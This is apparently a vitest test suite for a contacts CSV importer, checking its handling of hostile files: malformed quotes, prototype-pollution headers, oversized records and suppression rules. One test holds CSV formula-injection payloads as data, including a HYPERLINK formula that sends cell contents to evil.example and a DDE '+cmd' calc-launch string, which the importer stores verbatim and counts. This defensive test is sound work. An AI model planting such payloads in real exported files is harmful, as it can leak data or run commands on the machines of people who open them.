import { join } from 'node:path';
import { Readable } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { importContacts } from '../../../src/contacts/import.js';
import { getContact } from '../../../src/contacts/store.js';
import { isSuppressed, suppress } from '../../../src/contacts/suppression.js';
import { testRedis } from '../../helpers/redis.js';
import { FIXTURES, allContacts, importText, rejections } from './helpers.js';

const BOM = Buffer.from([0xef, 0xbb, 0xbf]);

describe('contacts import of hostile files', () => {
  it('strips a UTF-8 BOM before the first header', async () => {
    const { redis, keys } = testRedis();
    const summary = await importText(redis, keys, Buffer.concat([BOM, Buffer.from('email,prénom\nelodie@exemple.fr,Élodie\n')]));
    expect(summary).toMatchObject({ imported: 1, ignoredColumns: [], rejectedCount: 0 });
    expect((await getContact(redis, keys, 'elodie@exemple.fr'))?.fields).toEqual({ email: 'elodie@exemple.fr', firstName: 'Élodie' });
  });

  it('reads CRLF and CR-only files, with the right line numbers', async () => {
    const { redis, keys } = testRedis();
    for (const eol of ['\r\n', '\r']) {
      const text = ['email,city', 'a@example.com,Paris', 'bad address,Lyon', '', 'b@example.com,"Saint-\r\nÉtienne"', 'c@example.com,Metz', ''].join(eol);
      const summary = await importText(redis, keys, text, eol === '\r' ? 'cr' : 'crlf');
      expect(rejections(summary)).toEqual([[3, 'invalid email address']]);
      expect(summary).toMatchObject({ rows: 4 });
      const c = await getContact(redis, keys, 'c@example.com');
      expect(c?.fields).toEqual({ email: 'c@example.com', city: 'Metz' }); // no stray \r in values
      expect((await getContact(redis, keys, 'b@example.com'))?.fields.city).toBe('Saint-\r\nÉtienne');
    }
  });

  it('keeps line numbers right after quoted fields spanning lines', async () => {
    const { redis, keys } = testRedis();
    const text = 'email,notes\na@example.com,"one\ntwo\nthree"\nnot valid,x\nb@example.com,"four\n\nfive"\nb@example.com,dup\n';
    const summary = await importText(redis, keys, text);
    expect(rejections(summary)).toEqual([[5, 'invalid email address'], [9, 'duplicate of line 6']]);
    expect((await getContact(redis, keys, 'b@example.com'))?.fields.notes).toBe('four\n\nfive');
  });

  it('rejects rows with broken quotes, naming the lines they swallowed, and goes on', async () => {
    const { redis, keys } = testRedis();
    const summary = await importContacts({ redis, keys, file: join(FIXTURES, 'hostile.csv'), list: 'demo' });
    expect(rejections(summary)).toEqual([[5, 'malformed quotes on lines 5–6 (a quote inside a quoted field must be doubled: "")']]);
    expect(summary).toMatchObject({ rows: 3, imported: 2 });

    const unclosed = await importText(redis, keys, 'email,name\na@example.com,Ann\n"b@example.com,Ben\nc@example.com,Cy\nd@example.com,Di\n');
    expect(rejections(unclosed)).toEqual([[3, 'a quoted field opened on line 3 is never closed: lines 3–5 could not be read']]);
    expect(unclosed).toMatchObject({ rows: 2, imported: 1, rejectedCount: 1 });
    expect(await getContact(redis, keys, 'c@example.com')).toBeNull();

    const midField = await importText(redis, keys, 'email,name\ne@example.com,Ann "the boss" Lee\n"f@example.com"x,"Fay"\ng@example.com,Gus\n"h@example.com,Hal\n');
    expect(rejections(midField)).toEqual([
      [3, 'malformed quotes on line 3 (a quote inside a quoted field must be doubled: "")'],
      [5, 'a quoted field opened on line 5 is never closed: line 5 could not be read'],
    ]);
    expect((await getContact(redis, keys, 'e@example.com'))?.fields.name).toBe('Ann "the boss" Lee');
    expect(await getContact(redis, keys, 'g@example.com')).not.toBeNull();
  });

  it('ignores and reports __proto__, constructor and unusable headers; Object.prototype stays clean', async () => {
    const { redis, keys } = testRedis();
    const summary = await importContacts({ redis, keys, file: join(FIXTURES, 'hostile.csv'), list: 'demo' });
    expect(summary.ignoredColumns).toEqual([
      { column: 2, header: '__proto__', reason: '"__proto__" is a reserved name' },
      { column: 3, header: 'constructor', reason: '"constructor" is a reserved name' },
    ]);
    const other = await importText(redis, keys, 'email,prototype,toString,123,,Nom complet (FR),hasOwnProperty,E-mail\nz@example.com,1,2,3,4,Zoé Z,5,y@example.com\n');
    expect(other.ignoredColumns.map((c) => [c.column, c.header])).toEqual([[2, 'prototype'], [3, 'toString'], [4, '123'], [5, ''], [7, 'hasOwnProperty'], [8, 'E-mail']]);
    expect((await getContact(redis, keys, 'z@example.com'))?.fields).toEqual({ email: 'z@example.com', nomCompletFr: 'Zoé Z' });
    const stored = await allContacts(redis, keys);
    expect(Object.keys(stored.get('mallory@example.com')!).sort()).toEqual(['company', 'email', 'firstName', 'notes']);
    expect(({} as Record<string, unknown>).admin).toBeUndefined();
    expect(Object.prototype).not.toHaveProperty('admin');
  });

  it('stores formula cells verbatim and counts them', async () => {
    const { redis, keys } = testRedis();
    const summary = await importContacts({ redis, keys, file: join(FIXTURES, 'hostile.csv'), list: 'demo' });
    expect((await getContact(redis, keys, 'mallory@example.com'))?.fields).toEqual({
      email: 'mallory@example.com',
      firstName: '=HYPERLINK("http://evil.example/?q="&A1;"click")',
      notes: 'line one\nline two',
      company: '@SUM(1+1)',
    });
    expect((await getContact(redis, keys, 'trent@example.com'))?.fields).toMatchObject({ firstName: "+cmd|' /C calc'!A0", notes: 'a "quoted" word', company: '-2+3' });
    // =HYPERLINK, @SUM, +cmd and -2+3 (harmless, but a spreadsheet would compute it).
    expect(summary.formulaCells).toBe(4);
    const more = await importText(redis, keys, 'email,phone,score,note\np@example.com,+33 6 12 34 56 78,-5,"\t=1+1"\n');
    expect(more.formulaCells).toBe(1); // the note (a tab then a formula); a phone number and a negative score are not formulas
    expect((await getContact(redis, keys, 'p@example.com'))?.fields).toMatchObject({ phone: '+33 6 12 34 56 78', score: '-5', note: '=1+1' });
  });

  it('never lifts a suppression, whatever the file says', async () => {
    const { redis, keys } = testRedis();
    await importText(redis, keys, 'email,firstName\nu@example.com,Una\n');
    await suppress(redis, keys, 'U@example.com', 'unsubscribed', 'test');
    await suppress(redis, keys, 'never-imported@example.com', 'bounced', 'test');
    const before = await redis.hgetall(keys.suppressed());
    const summary = await importText(redis, keys, 'email,firstName,status\nu@example.com,Una,subscribed\nnever-imported@example.com,Ned,subscribed\nfree@example.com,Fay,subscribed\n');
    expect(summary).toMatchObject({ imported: 2, updated: 1, suppressed: 2 });
    expect(await redis.hgetall(keys.suppressed())).toEqual(before);
    expect(await isSuppressed(redis, keys, 'u@example.com')).toBe(true);
    expect(await isSuppressed(redis, keys, 'never-imported@example.com')).toBe(true);
    expect(await isSuppressed(redis, keys, 'free@example.com')).toBe(false);
  });

  it('leaves a contact with unreadable stored data untouched and reports it', async () => {
    const { redis, keys } = testRedis();
    await importText(redis, keys, 'email\na@example.com\nb@example.com\n');
    await redis.hset(keys.contactData(), '1', '{not json');
    const summary = await importText(redis, keys, 'email,city\na@example.com,Paris\nb@example.com,Lyon\n');
    expect(rejections(summary)).toEqual([[2, 'the stored contact is unreadable (corrupt JSON): left untouched']]);
    expect(await redis.hget(keys.contactData(), '1')).toBe('{not json');
    expect(summary).toMatchObject({ updated: 1, rejectedCount: 1 });
  });

  it('gives the same result whatever the chunking (UTF-8 and CRLF split across chunks)', async () => {
    const { redis, keys } = testRedis();
    const text = Buffer.concat([BOM, Buffer.from('email,prénom,notes\r\nzoé@exemple.fr,Zoé,x\r\na@example.com,Anaïs,"multi\r\nline"\r\nbad,x,y\r\n')]);
    const bytes = [...text].map((b) => Buffer.from([b]));
    const summary = await importContacts({ redis, keys, stream: Readable.from(bytes), list: 'demo' });
    expect(rejections(summary)).toEqual([[2, 'invalid email address'], [5, 'invalid email address']]);
    expect((await getContact(redis, keys, 'a@example.com'))?.fields).toEqual({ email: 'a@example.com', firstName: 'Anaïs', notes: 'multi\r\nline' });
  });

  it('rejects a record that grows past 8 MB without reading the file into one string', async () => {
    const { redis, keys } = testRedis();
    const filler = `${'x'.repeat(99)}\n`.repeat(90_000); // 9 MB of lines inside an unclosed quote
    const unclosed = await importText(redis, keys, `email,notes\na@example.com,"oops\n${filler}b@example.com,never read\n`);
    // Line 1 header, line 2 the quote, lines 3–90002 the filler, line 90003 the last contact.
    expect(rejections(unclosed)).toEqual([[2, 'a quoted field opened on line 2 is never closed: lines 2–90003 could not be read']]);
    expect(unclosed).toMatchObject({ imported: 0, rejectedCount: 1 });
    const longLine = await importText(redis, keys, `email,notes\nc@example.com,${'y'.repeat(9 * 1024 * 1024)}\nd@example.com,fine\n`);
    expect(rejections(longLine)).toEqual([[2, 'line longer than 8 MB: not read']]);
    expect(await getContact(redis, keys, 'd@example.com')).not.toBeNull();
  });
});
